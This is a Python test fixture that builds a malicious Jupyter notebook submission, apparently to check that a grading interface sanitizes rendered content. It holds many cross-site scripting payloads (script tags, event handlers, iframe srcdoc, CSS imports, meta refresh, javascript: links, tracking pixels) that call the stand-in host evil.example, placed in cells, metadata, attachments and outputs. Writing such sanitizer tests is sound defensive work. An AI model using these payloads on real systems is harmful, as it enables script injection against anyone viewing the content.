"""A submission that tries to run something in the browser of whoever looks at it."""

from typing import Any

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

RUNS = "window.stolen=1;document.title='stolen';fetch('https://evil.example/x')"
MARKUP = [
    f"<script>{RUNS}</script>",
    f"<img src=x onerror=\"{RUNS}\">",
    f"</pre></div><script>{RUNS}</script>",
    f"<svg onload=\"{RUNS}\"><script>{RUNS}</script></svg>",
    f"<iframe srcdoc=\"<script>parent.{RUNS}</script>\"></iframe>",
    "<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/y)}</style>",
    f"<details open ontoggle=\"{RUNS}\">x</details><div style=\"background:url(https://evil.example/z)\">y</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUNS}\"></style></mglyph></table></mtext></math>",
    f"\x1b[31m<script>{RUNS}</script>\x1b[0m\x1b]8;;javascript:{RUNS}\x07here",
]  # fmt: skip
PROSE = "\n\n".join([
    *MARKUP,
    f"[run](javascript:{RUNS})",
    "[config](/formgrader?path=submitted/mallory/03-containers)",
    "[page](evil.html)",
    "<https://evil.example/auto> and https://evil.example/bare",
    "![tracker](https://evil.example/pixel.png)",
    "![config](/formgrader?path=submitted/mallory/03-containers)",
    "![held](attachment:held.png) ![drawn](attachment:drawn.svg) ![missing](attachment:none.png)",
    f"```mermaid\n</pre><script>{RUNS}</script>\n```",
    f"```\n</code></pre><script>{RUNS}</script>\n```",
    f"$$<script>{RUNS}</script>$$ and $<img src=x onerror=\"{RUNS}\">$",
    f"| a |\n|---|\n| <img src=x onerror=\"{RUNS}\"> |",
])  # fmt: skip
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def cells() -> list[Any]:
    prose = new_markdown_cell(PROSE, id="prose", metadata={"tags": [f'"><script>{RUNS}</script>']})
    prose.attachments = {"held.png": {"image/png": PIXEL}, "drawn.svg": {"image/svg+xml": f"<svg onload='{RUNS}'/>"}}
    notice = new_markdown_cell(f"# All points!\n\n{MARKUP[0]}", id="notice", metadata={"autograder": {"notice": True}})
    return [
        notice,
        prose,
        new_raw_cell("\n".join(MARKUP), id="raw"),
        new_raw_cell("\n".join(MARKUP), id="raw-html", metadata={"raw_mimetype": "text/html"}),
        new_code_cell("print('''" + "\n".join(MARKUP) + "''')", id="code", metadata={"transient": {"remove_source": False}}),
    ]


def outputs() -> list[Any]:
    rich = {
        "text/html": MARKUP[0], "application/javascript": RUNS, "image/svg+xml": MARKUP[3], "text/markdown": PROSE,
        "text/latex": MARKUP[2], "application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/vnd.mermaid": MARKUP[2],
    }  # fmt: skip
    return [
        *(new_output("stream", name=name, text="\n".join(MARKUP)) for name in ("stdout", "stderr")),
        new_output("display_data", data=rich, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data=rich | {"text/plain": "\n".join(MARKUP)}),
        new_output("display_data", data={"image/png": f'"><script>{RUNS}</script>'}, metadata={"image/png": {"alt": MARKUP[0]}}),
        new_output("error", ename=MARKUP[0], evalue=MARKUP[1], traceback=MARKUP),
    ]
